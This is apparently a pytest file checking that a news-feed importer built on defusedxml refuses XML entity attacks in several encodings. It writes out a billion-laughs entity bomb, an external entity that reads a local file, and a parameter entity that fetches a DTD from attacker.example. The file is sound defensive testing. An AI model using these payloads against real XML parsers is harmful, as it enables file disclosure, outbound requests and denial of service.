"""Feeds through defusedxml: entity declarations and external references are refused in any
encoding, with a message that says so; ordinary feeds read as before (tests/importer/test_inputs.py
has the RSS and Atom reading itself)."""

from __future__ import annotations

import codecs

import pytest

from companies.importer.inputs import InputError, read_bytes

GOOD = """<?xml version="1.0" encoding="{encoding}"?>
<rss version="2.0"><channel><title>Ostry news</title>
<item><title>Ostry Glass to Idle Ludlow Furnace</title>
<pubDate>Tue, 03 Mar 2015 08:00:00 GMT</pubDate>
<description>LUDLOW, England -- Ostry Glass will idle its float furnace at Ludlow.</description></item>
</channel></rss>"""

# the billion laughs: ten entities, each ten of the one before
LAUGHS = "".join(
    ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
)
BILLION_LAUGHS = f"""<?xml version="1.0" encoding="{{encoding}}"?>
<!DOCTYPE rss [{LAUGHS}]>
<rss><channel><item><title>&lol9;</title><description>x</description></item></channel></rss>"""

EXTERNAL = """<?xml version="1.0" encoding="{encoding}"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file://{path}">]>
<rss><channel><item><title>&secret;</title><description>x</description></item></channel></rss>"""

PARAMETER = """<?xml version="1.0" encoding="{encoding}"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss><channel><item><title>t</title><description>x</description></item></channel></rss>"""

# (label in the XML declaration, how the bytes are written)
ENCODINGS = [
    ("UTF-8", "utf-8"),
    ("UTF-8", "utf-8-sig"),
    ("UTF-16", "utf-16"),  # with a byte order mark
    ("UTF-16", "utf-16-le"),  # without one: recognised by "<?" in two-byte units
    ("UTF-16", "utf-16-be"),
    ("UTF-32", "utf-32"),
]


def _bytes(template: str, label: str, codec: str, **fields) -> bytes:
    return template.format(encoding=label, **fields).encode(codec)


@pytest.mark.parametrize(("label", "codec"), ENCODINGS)
def test_a_good_feed_reads_in_every_encoding(label, codec):
    (document,) = read_bytes(_bytes(GOOD, label, codec), "ostry.rss")
    assert document.headline == "Ostry Glass to Idle Ludlow Furnace"
    assert document.text == "LUDLOW, England -- Ostry Glass will idle its float furnace at Ludlow."
    assert document.warnings == []


@pytest.mark.parametrize(("label", "codec"), ENCODINGS)
def test_billion_laughs_is_refused_in_every_encoding(label, codec):
    with pytest.raises(InputError, match=r"declares entities .* which is not allowed"):
        read_bytes(_bytes(BILLION_LAUGHS, label, codec), "laughs.rss")


@pytest.mark.parametrize(("label", "codec"), ENCODINGS)
def test_external_entity_is_refused_and_never_read(tmp_path, label, codec):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET")
    with pytest.raises(InputError, match="declares entities or refers to external resources") as refused:
        read_bytes(_bytes(EXTERNAL, label, codec, path=secret), "xxe.xml")
    assert "TOP SECRET" not in str(refused.value)


@pytest.mark.parametrize(("label", "codec"), ENCODINGS[:3])
def test_external_parameter_entity_is_refused(label, codec):
    with pytest.raises(InputError, match="not allowed"):
        read_bytes(_bytes(PARAMETER, label, codec), "param.xml")


def test_utf16_entity_declarations_no_longer_pass():
    # the hand-written guard looked for the bytes "<!ENTITY", which UTF-16 does not contain
    data = codecs.BOM_UTF16_LE + BILLION_LAUGHS.format(encoding="UTF-16").encode("utf-16-le")
    assert b"<!ENTITY" not in data
    with pytest.raises(InputError, match="entities"):
        read_bytes(data, "laughs.xml")


def test_a_doctype_naming_a_dtd_is_read_and_nothing_is_fetched():
    feed = """<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
  "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><item><title>Ostry Glass Reopens Ludlow Furnace</title>
<description>Ostry Glass restarted its float furnace at Ludlow.</description></item></channel></rss>"""
    (document,) = read_bytes(feed.encode(), "old.rss")
    assert document.headline == "Ostry Glass Reopens Ludlow Furnace"


def test_control_characters_in_a_feed_are_removed_not_fatal():
    # XML forbids them, so the strict parser would refuse the whole feed for one stray byte
    # (past the first 8 KB, where a NUL would make the file look binary)
    padding = "Ostry Glass makes float glass for builders. " * 200
    feed = GOOD.format(encoding="utf-8").replace("float furnace", f"{padding}float\x00 furnace\x01")
    (document,) = read_bytes(feed.encode(), "ostry.rss")
    assert document.text.endswith("float furnace at Ludlow.")
    assert document.warnings[0].startswith("Removed 2 control characters")
